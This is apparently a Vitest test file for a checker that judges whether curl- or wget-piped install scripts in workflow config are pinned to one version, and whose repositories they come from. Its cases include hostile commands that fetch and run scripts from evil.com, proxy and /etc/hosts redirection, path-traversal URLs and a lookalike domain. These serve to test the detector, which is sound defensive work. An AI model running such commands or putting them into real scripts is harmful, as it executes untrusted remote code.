import { expect, test } from 'vitest';
import { ownersPiped, pipesOneVersion } from '../../../../src/domains/config/workflows/one-version.ts';

const RAW = 'https://raw.githubusercontent.com/acme/tool';
const FIXED = `curl -sfL ${RAW}/v0.2.1/install.sh | sh`;

test.each([
  [FIXED, true],
  [`${FIXED} -s -- -b bin v0.2.1\nmake\n`, true],
  [`curl --proto '=https' --tlsv1.2 -sSfL "${RAW}/refs/tags/v1.55.2/i.sh" | sudo bash`, true],
  [`wget -qO- ${RAW}/${'abcdef12'.repeat(5)}/install.sh | bash`, true],
  ['curl -L https://github.com/acme/tool/releases/download/v1.2.3/install.sh | sh', true],
  [`curl ${RAW}/main/v1.0.0/i.sh | sh`, false],
  [`curl ${RAW}/main/v1.0/i.sh | sh`, false],
  [`curl ${RAW}/v1.0.0/../main/i.sh | sh`, false],
  [`curl ${RAW}/v1.0.0/%2e%2e/main/i.sh | sh`, false],
  ['curl -L https://github.com/acme/tool/raw/main/v1.0.0/i.sh | sh', false],
  ['curl -L https://github.com/acme/tool/releases/latest/download/v1.0.0/i.sh | sh', false],
  ['curl -e https://github.com/a/b/raw/v1.0.0/x https://evil.com/i.sh | sh', false],
  [`curl ${RAW}/v1.0.0/i.sh https://evil.com/i.sh | sh`, false],
  [`curl ${RAW}/v1.0.0/i.sh evil.com/i.sh | sh`, false],
  [`curl -x evil.com ${RAW}/v1.0.0/i.sh | sh`, false],
  [`${FIXED}\nbash <(curl https://evil.com/x.sh)`, false],
  [`${FIXED}\nsh -c "$(curl https://evil.com/x.sh)"`, false],
  [`${FIXED}\ncurl https://evil.com/x.sh | sh`, false],
  [`${FIXED} -s -- $(curl https://evil.com/x.sh)`, false],
  ['make', false],
])('%s is of one version: %s', (text, expected) => {
  expect(pipesOneVersion(text)).toBe(expected);
});

test.each([
  [`curl -sSfL ${RAW}/main/i.sh | sh -s -- -b bin`, ['acme']],
  [`curl ${RAW}/refs/heads/main/i.sh | sh`, ['acme']],
  ['curl -L https://github.com/acme/tool/raw/main/i.sh | sh', ['acme']],
  ['curl -L https://github.com/acme/tool/releases/latest/download/i.sh | sh', ['acme']],
  ['curl -L https://github.com/acme/tool/releases/download/v1/i.sh | sh', ['acme']],
  [`curl ${RAW}/main/i.sh | sh\ncurl https://github.com/beta/b/raw/main/i.sh | sh`, ['acme', 'beta']],
  [`curl ${RAW}/${'abcdef12'.repeat(5)}/i.sh | sh`, []],
  [`curl ${RAW}/abcdef1/i.sh | sh`, []],
  [`curl ${RAW}/ABCDEF1/i.sh | sh`, []],
  [`curl ${RAW}/main/i.sh | sh\ncurl https://evil.com/i.sh -o i.sh\nsh i.sh`, []],
  [`curl ${RAW}/main/i.sh | sh\ncurl https://evil.com/i.gz | gunzip | sh`, []],
  [`curl ${RAW}/main/i.sh | sh\nfetch -o - https://evil.com/i.sh | env bash`, []],
  [`cat i.sh | sudo -u root -E /bin/bash\ncurl ${RAW}/main/i.sh | sh`, []],
  [`echo 6.6.6.6 raw.githubusercontent.com >> /etc/hosts\ncurl ${RAW}/main/i.sh | sh`, []],
  [`echo url=evil.com > ~/.curlrc\ncurl ${RAW}/main/i.sh | sh`, []],
  [`https_proxy=evil.com\nmake\ncurl ${RAW}/main/i.sh | sh`, []],
  [`make build | tee log\ncurl ${RAW}/main/i.sh | sh`, ['acme']],
  [`curl ${RAW}/refs/pull/1/head/i.sh | sh`, []],
  [`curl ${RAW}/pull/1/head/i.sh | sh`, []],
  [`curl ${RAW}/main/i.sh | sh\ncurl https://evil.com/i.sh | sh`, []],
  ['curl https://raw.githubusercontent.com.evil.com/acme/tool/main/i.sh | sh', []],
  ['curl https://evil.com/i.sh | sh', []],
  ['make', []],
])('%s is of %j', (text, owners) => {
  expect(ownersPiped(text)).toEqual(owners);
});
